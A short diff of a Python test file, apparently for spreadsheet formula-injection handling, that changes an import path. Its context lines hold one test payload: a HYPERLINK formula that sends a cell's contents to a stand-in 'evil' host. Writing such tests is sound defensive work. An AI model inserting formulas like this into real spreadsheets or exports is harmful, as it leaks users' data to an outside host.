@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from traffic.spreadsheet import as_cell, from_cell, has_our_cells
+from demur.traffic.spreadsheet import as_cell, from_cell, has_our_cells
 
 FORMULAS = (
     '=HYPERLINK("http://evil/?"&A1,"x")',
